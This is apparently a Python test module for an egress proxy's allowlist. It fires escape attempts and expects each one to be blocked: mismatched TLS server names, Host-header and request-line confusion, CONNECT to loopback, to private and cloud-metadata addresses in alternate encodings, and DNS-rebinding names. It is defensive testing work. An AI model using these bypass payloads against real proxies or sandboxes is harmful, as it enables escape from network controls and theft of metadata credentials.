"""One name for the policy and another for the network: TLS server names, Host, CONNECT, and how they are spelt.

The policy allows `allowed.test` and `*.wild.test`. With the agreement of names off, what is said inside wins nothing
and is passed on as it is; the canaries see the token then.
"""

from __future__ import annotations

import os
import socket
from collections.abc import Callable
from ipaddress import ip_address

from tests.escapes.attacks.direct import hello, tcp
from tests.escapes.frame import ALLOWED, Ways, add, attack

NET = "network"
SECONDS = 3.0
PROXY = "127.0.0.1"


def through(*parts: bytes, name: str = "", port: int = 0) -> bytes:
    """Send the parts, each after an answer to the one before it; to the proxy unless `name` is given."""
    with socket.socket() as sock:
        sock.settimeout(SECONDS)
        sock.connect((name or PROXY, port or int(os.environ["TRIO_EGRESS_PROXY"].rpartition(":")[2])))
        answer = b""
        for part in parts:
            sock.sendall(part)
            answer = sock.recv(4096)
        return answer


def connect(target: str) -> bytes:
    return f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode()


def get(target: str, *fields: str) -> bytes:
    return "\r\n".join([f"GET {target} HTTP/1.1", *fields, "", ""]).encode("utf-8", "surrogateescape")


# TLS: where to, and which server name

MISMATCH = "agreement"


@attack(NET, receipt=r"block transparent \S*{token}\.denied\.test")
def denied_server_name_to_an_address(w: Ways) -> None:
    tcp(w.v4, 443, hello(f"{w.token}.denied.test".encode()))


@attack(NET, receipt=r"allow transparent \S*allowed\.test")
def allowed_server_name_to_an_address_of_mine(w: Ways) -> None:
    """The name is looked up and dialled; the address that was asked for is not."""
    tcp(w.v4, 443, hello(ALLOWED.encode()))


def _tls(server_name: Callable[[Ways], bytes], to: str = ALLOWED, port: int = 443) -> Callable[[Ways], None]:
    return lambda w: tcp(to, port, hello(server_name(w)))


def _tls_by_connect(server_name: Callable[[Ways], bytes], to: str = ALLOWED) -> Callable[[Ways], None]:
    def attempt(w: Ways) -> None:
        through(connect(f"{to}:443"), hello(server_name(w)))

    return attempt


_SERVER_NAMES: dict[str, Callable[[Ways], bytes]] = {
    "another": lambda w: f"{w.token}.denied.test".encode(),
    "another_allowed": lambda w: f"{w.token}.wild.test".encode(),
    "with_an_address": lambda w: f"{w.token}.93.184.216.34".encode(),
    "with_a_zero_byte": lambda w: f"{ALLOWED}\0.{w.token}.test".encode(),
    "with_a_space": lambda w: f"{ALLOWED} {w.token}".encode(),
    "with_user_information": lambda w: f"{w.token}@{ALLOWED}".encode(),
    "with_a_port": lambda w: f"{ALLOWED}:{w.token}".encode(),
    "with_two_dots": lambda w: f"{w.token}.{ALLOWED}..".encode(),
    "below": lambda w: f"{w.token}.{ALLOWED}".encode(),
    "in_utf8": lambda w: f"{w.token}.ａllowed.test".encode(),
    "of_two_lines": lambda w: f"{ALLOWED}\r\nX: {w.token}".encode(),
}

READABLE = ("another", "another_allowed", "with_an_address", "with_two_dots", "below")
"""The others are no server names, so no step but the parser stops them."""

for _name, _server_name in _SERVER_NAMES.items():
    add(f"sni_{_name}", _tls(_server_name), NET, receipt=r"block transparent \S*allowed\.test:443")
    if _name in READABLE:
        add(
            f"connect_and_sni_{_name}",
            _tls_by_connect(_server_name),
            MISMATCH,
            receipt=r"block connect \S*allowed\.test:443",
        )


@attack(MISMATCH, receipt=r"block transparent \S*allowed\.test:443")
def tls_without_a_server_name(w: Ways) -> None:
    raw = bytearray(hello(b""))
    raw[11:43] = w.raw.ljust(32, b"\0")  # the client's random: what the canary knows it by
    tcp(ALLOWED, 443, bytes(raw))


# CONNECT: to whom

_TARGETS: dict[str, tuple[str, str]] = {
    "a_denied_name": ("{token}.denied.test:443", r"block connect \S*{token}\.denied\.test:443"),
    "a_denied_name_with_a_dot": ("{token}.denied.test.:443", r"block connect \S*{token}\.denied\.test:443"),
    "another_port": ("{token}.wild.test:22", r"block connect \S*{token}\.wild\.test:22"),
    "port_25": ("{token}.wild.test:25", r"block connect \S*{token}\.wild\.test:25"),
    "an_address": ("{v4}:443", r"block connect \S*{v4}:443"),
    "an_ipv6_address": ("[{v6}]:443", r"block connect \S*\[{v6}\]:443"),
    "host_loopback": ("127.0.0.1:{port}", r"block connect \S*127\.0\.0\.1:{port}"),
    "host_loopback_by_ipv6": ("[::1]:{port}", r"block connect \S*\[::1\]:{port}"),
    "host_loopback_by_name": ("localhost:{port}", r"block connect \S*localhost:{port}"),
    "host_loopback_mapped": ("[::ffff:127.0.0.1]:{port}", r"block connect \S*127\.0\.0\.1:{port}"),
    "host_loopback_in_hex": ("0x7f.1:{port}", r"block connect \S*127\.0\.0\.1:{port}"),
    "host_loopback_in_octal": ("0177.0.0.1:{port}", r"block connect \S*127\.0\.0\.1:{port}"),
    "host_loopback_as_a_number": ("2130706433:{port}", r"block connect \S*127\.0\.0\.1:{port}"),
    "host_loopback_as_short": ("127.1:{port}", r"block connect \S*127\.0\.0\.1:{port}"),
    "zero": ("0:{port}", r"block connect \S*0\.0\.0\.0:{port}"),
    "ipv6_zero": ("[::]:{port}", r"block connect \S*\[::\]:{port}"),
    "metadata": ("169.254.169.254:{port}", r"block connect \S*169\.254\.169\.254:{port}"),
    "private": ("10.1.2.3:{port}", r"block connect \S*10\.1\.2\.3:{port}"),
    "nat64": ("[64:ff9b::a9fe:a9fe]:{port}", r"block connect \S*\[64:ff9b::a9fe:a9fe\]:{port}"),
    "six_to_four": ("[2002:7f00:1::]:{port}", r"block connect \S*\[2002:7f00:1::\]:{port}"),
}


def _by_connect(target: str) -> Callable[[Ways], None]:
    def attempt(w: Ways) -> None:
        filled = target.format(token=w.token, v4=w.v4, v6=w.v6, port=w.port)
        host = filled.rpartition(":")[0]
        name = host if host.rstrip(".").endswith((".test", "localhost")) else f"{w.token}.denied.test"
        through(connect(filled), hello(name.encode()))

    return attempt


for _name, (_target, _receipt) in _TARGETS.items():
    add(f"connect_to_{_name}", _by_connect(_target), "policy", receipt=_receipt)


# Plain HTTP: target, Host

_REQUESTS: dict[str, tuple[str, tuple[str, ...], str]] = {
    "denied_name": (
        "http://{token}.denied.test/",
        ("Host: {token}.denied.test",),
        r"\S*{token}\.denied\.test",
    ),
    "denied_address": ("http://{v4}/", ("Host: {v4}",), r"\S*{v4}"),
    "host_loopback": ("http://127.0.0.1:{port}/", ("Host: 127.0.0.1:{port}",), r"\S*127\.0\.0\.1:{port}"),
    "another_method": ("http://allowed.test/{token}", ("Host: allowed.test",), r"\S*allowed\.test"),
}


def _by_request(target: str, fields: tuple[str, ...], method: str) -> Callable[[Ways], None]:
    def attempt(w: Ways) -> None:
        values = {"token": w.token, "v4": w.v4, "port": w.port}
        raw = get(target.format(**values), *[field.format(**values) for field in fields])
        through(raw.replace(b"GET", method.encode(), 1))

    return attempt


for _name, (_target, _fields, _receipt) in _REQUESTS.items():
    _method = "DELETE" if _name == "another_method" else "GET"
    add(
        f"get_{_name}" if _method == "GET" else _name,
        _by_request(_target, _fields, _method),
        "policy",
        receipt="block forward " + _receipt,
    )

_CONFUSIONS: dict[str, tuple[bytes, str]] = {
    "host_of_another": (b"GET / HTTP/1.1\r\nHost: %s.denied.test\r\n\r\n", NET),
    "host_of_another_allowed": (b"GET / HTTP/1.1\r\nHost: %s.wild.test\r\n\r\n", NET),
    "absolute_form_of_another": (b"GET http://%s.denied.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n", NET),
    "host_twice": (b"GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: %s.denied.test\r\n\r\n", NET),
    "host_after_a_space": (b"GET / HTTP/1.1\r\nHost : %s\r\nHost: allowed.test\r\n\r\n", NET),
    "host_folded": (b"GET / HTTP/1.1\r\nHost: allowed.test\r\n %s.denied.test\r\n\r\n", NET),
    "host_with_user": (b"GET / HTTP/1.1\r\nHost: %s@allowed.test\r\n\r\n", NET),
    "host_with_another_port": (b"GET /%s HTTP/1.1\r\nHost: allowed.test:8443\r\n\r\n", NET),
    "host_with_a_slash": (b"GET / HTTP/1.1\r\nHost: allowed.test/%s\r\n\r\n", NET),
    "host_with_a_backslash": (b"GET / HTTP/1.1\r\nHost: allowed.test\\%s\r\n\r\n", NET),
    "host_with_a_comma": (b"GET / HTTP/1.1\r\nHost: allowed.test, %s\r\n\r\n", NET),
    "host_with_a_percent": (b"GET / HTTP/1.1\r\nHost: allowed.test%%2f%s\r\n\r\n", NET),
    "host_with_a_zero_byte": (b"GET / HTTP/1.1\r\nHost: allowed.test\0%s\r\n\r\n", NET),
    "target_with_user": (
        b"GET http://allowed.test@%s.denied.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
        NET,
    ),
    "target_with_another_scheme": (b"GET ftp://allowed.test/%s HTTP/1.1\r\nHost: allowed.test\r\n\r\n", NET),
    "no_host_at_all": (b"GET /%s HTTP/1.1\r\n\r\n", NET),
}


def _confused(raw: bytes) -> Callable[[Ways], None]:
    def attempt(w: Ways) -> None:
        through(raw % w.raw, name=ALLOWED, port=80)

    return attempt


for _name, (_raw, _off) in _CONFUSIONS.items():
    add(_name, _confused(_raw), _off, receipt=r"block transparent \S*allowed\.test")


@attack(NET, receipt=r"block transparent \S*{token}\.denied\.test")
def denied_host_to_an_address(w: Ways) -> None:
    through(f"GET / HTTP/1.1\r\nHost: {w.token}.denied.test\r\n\r\n".encode(), name=w.v4, port=80)


@attack(NET, receipt=r"allow transparent \S*allowed\.test")
def allowed_host_to_an_address_of_mine(w: Ways) -> None:
    through(b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n", name=w.v4, port=80)


# Names that resolve to where nothing may go; the resolver is the attacker's own

_REBOUND = {
    "loopback": "127.77.0.0",
    "metadata": "169.254.0.0",
    "private_10": "10.77.0.0",
    "private_172": "172.20.0.0",
    "private_192": "192.168.0.0",
    "carrier_grade": "100.64.0.0",
    "benchmarking": "198.18.0.0",
    "nat64": "64:ff9b::7f4d:0",
    "six_to_four": "2002:7f4d::",
    "teredo": "2001::7f4d:0",
    "mapped": "::ffff:127.77.0.0",
    "compatible": "::127.77.0.0",
    "unique_local": "fd00::",
    "ipv6_metadata": "fd00:ec2::1:0",
}
"""The first address of each; the case's number is added to it."""


def _rebound(base: str) -> Callable[[Ways], None]:
    def attempt(w: Ways) -> None:
        name = f"{(ip_address(base) + w.number).packed.hex()}.rebind.test"
        through(f"GET / HTTP/1.1\r\nHost: {name}\r\n\r\n".encode(), name=name, port=80)

    return attempt


for _name, _base in _REBOUND.items():
    add(
        f"name_of_{_name}",
        _rebound(_base),
        "address",
        proof=f"dialled:{_base}",
        receipt=r"block transparent \S*\.rebind\.test",
    )
